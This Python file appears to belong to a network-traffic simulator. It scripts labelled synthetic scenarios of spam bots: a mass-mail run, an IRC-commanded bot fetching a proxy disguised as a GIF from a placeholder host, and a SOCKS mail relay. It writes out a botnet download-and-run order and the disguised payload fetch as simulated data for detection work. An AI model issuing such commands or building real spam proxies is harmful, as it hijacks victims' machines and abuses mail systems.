# SPDX-License-Identifier: GPL-3.0-or-later
"""Bots that mail: the spam run, and the spam proxy's ten minutes as Koyama gives them."""

from scenarios import Label, people, scenario, talk, wire
from scenarios.irc import Client
from scenarios.world import ns

REFUSALS = ("550 5.1.1 no such user", "554 5.7.1 blocked, see the list", "550 5.7.1 your address is dynamic")


def exchanger(world, time, host, site):
    """Asks who takes a domain's mail, and for its address."""
    name = f"mx1.{site}"
    time = talk.lookup(world, time, host, site, "MX", [name])
    return talk.resolve(world, time + ns(0.01), host, name, ttl=3600)


def spam_run(world, time, host, mails, rate, sites=400, refused=0.35, names=12):
    """A spam engine: a mail to each of many servers, under changing names, to a list full of dead addresses."""
    domains = [people.domain(world.random) for _ in range(sites)]
    for _ in range(mails):
        site = world.random.choice(domains)
        at, address = exchanger(world, time, host, site)
        kind = world.random.random()
        if kind < 0.12:
            world.silent(at, host, address, 25, (3.0,))
        else:
            own = f"pc{world.random.randrange(names)}.{world.random.choice(domains[:40])}"
            talk.smtp(world, at, host, address, helo=own, sender=f"{people.mail_name(world.random)}@{own}",
                      recipients=tuple(f"{people.mail_name(world.random)}@{site}" for _ in range(world.random.randrange(1, 4))),
                      size=world.random.randrange(1500,
                                                  6000), reject=world.random.choice(REFUSALS) if kind < refused else "",
                      banner=f"mx1.{site}")
        time += world.jitter(1 / rate, 0.8)
    return time


@scenario("spam-direct", group="bot", same=("mass_mail", "scan"))
def spam_direct(world):
    """A bot whose control nobody sees (TLS to port 6697): it scans for others and mails 1,800 an hour for half an hour."""
    from scenarios.bots_irc import scan
    hosts = people.hosts(12)
    people.office(world, hosts, people.minutes(35), every=150)
    bot = hosts[8]
    control = talk.tls_open(world, world.tcp(people.at(world, 30), bot, world.outside(), 6697), "")
    for _ in range(20):
        control.wait(90).up(talk.sealed(world.random, 60)).down(talk.sealed(world.random, 60))
    scan(world, people.at(world, 60), bot, 139, 2000, 10)
    spam_run(world, people.at(world, 240), bot, 900, 0.5)
    return {bot: Label("scan", "mass_mail", "dns_anomaly", kinds=("scan.horizontal", "mass_mail.servers",
                                                                  "mass_mail.rejected"))}


def _chain(world, hosts, bot, listen):
    """Koyama's chain, step by step, until the proxy is tested. Returns when, and the IRC connection."""
    # Login to IRC, and the order.
    c = Client(world, people.at(world, 60), bot, world.outside(), "KOR|620185", user="uvhwq", network="irc.ko")
    c.welcome().join("#px", "open", operator="@ops")
    c.tcp.wait(25)
    c.hear("ops", "#px", ".http.dl 203.0.113.9 8877 proxy.exe -h -s")
    # Another port.
    other = world.tcp(c.now + ns(1), bot, "203.0.113.9", 8877)
    other.up(b"\x05login KOR|620185\n").down(b"\x06http://203.0.113.9:81/m/px.gif\n")
    # The mail proxy's download, under a picture's name.
    end = talk.fetch(world, other.now + ns(1), bot, "203.0.113.9:81", "/m/px.gif", talk.program(world.random, 90_000),
                     "image/gif",
                     address="203.0.113.9", port=81, agent="Mozilla/4.0 (compatible; MSIE 6.0)")
    other.close()
    # Check-in: it tells its port.
    end = talk.fetch(world, end + ns(3), bot, "203.0.113.9", f"/in.php?p={listen}&v=3", b"OK", "text/plain",
                     address="203.0.113.9", agent="proxy")
    # The test mail, through the proxy, to the herder's own box.
    inbound = world.tcp(end + ns(5), "203.0.113.9", bot, listen)
    mail = _mail(world, 700)
    inbound.up(mail)
    at, address = exchanger(world, inbound.now, bot, "freemail.com")
    talk.smtp(world, at, bot, address, helo="mail.freemail.com", sender="test@freemail.com",
              recipients=("herder@freemail.com",),
              size=650)
    inbound.down(b"ok\n")
    return inbound.close(), c


def _mail(world, size):
    return b"\x01" + world.random.randbytes(24) + b"x" * size


@scenario("spam-proxy", group="bot")
def spam_proxy(world):
    """The ten minutes: IRC login, order, other port, the proxy's download, check-in, test mail; then spam arrives on a
    random port and leaves on port 25, 1,200 an hour."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(14))
    bot, listen = hosts[4], 31874
    time, c = _chain(world, hosts, bot, listen)
    time += ns(20)
    masters = ["203.0.113.9", world.outside(), world.outside()]
    for number in range(180):
        site, size = people.domain(world.random), world.random.randrange(1800, 8000)
        inbound = world.tcp(time, world.random.choice(masters), bot, listen)
        inbound.up(_mail(world, size))
        at, address = exchanger(world, inbound.now + ns(0.05), bot, site)
        talk.smtp(world, at, bot, address, helo=f"host{number % 9}.{site}",
                  sender=f"{people.mail_name(world.random)}@{site}",
                  recipients=(f"{people.mail_name(world.random)}@{site}",), size=size,
                  reject=REFUSALS[number % 3] if number % 4 == 0 else "")
        inbound.down(b"ok\n")
        inbound.close()
        time += world.jitter(3)
    c.idle(time)
    return {bot: Label("irc_control", "egg", "spam_proxy", "mass_mail", kinds=("spam_proxy.volume", "egg.disguised"))}


@scenario("spam-proxy-socks", group="bot")
def spam_proxy_socks(world):
    """The proxy speaks SOCKS: outsiders name the mail servers, and the host calls them. Nobody saw the infection."""
    hosts = people.hosts(8)
    people.office(world, hosts, people.minutes(12))
    bot, listen = hosts[2], 1080 + 15000
    time = people.at(world, 120)
    for number in range(60):
        site = people.domain(world.random)
        address = world.site(f"mx1.{site}")[0]
        asked = world.tcp(time, world.site("spammer", 3)[number % 3], bot, listen)
        asked.up(b"\5\1\0").down(b"\5\0").up(b"\5\1\0\1" + wire.packed(address) + b"\0\x19")
        mail = talk.smtp(world, asked.now + ns(0.1), bot, address, helo=f"pc{number % 7}.{site}", sender=f"x@{site}",
                         recipients=(f"{people.mail_name(world.random)}@{site}",), size=2500,
                         reject=REFUSALS[number % 3] if number % 3 == 0 else "")
        asked.down(b"\5\0\0\1\0\0\0\0\0\0" + b"220 mx\r\n").up(b"HELO x\r\n" + b"x" * 2600)
        asked.until(mail)
        asked.close()
        time += world.jitter(6)
    return {bot: Label("spam_proxy", "mass_mail", kinds=("spam_proxy.executed",))}
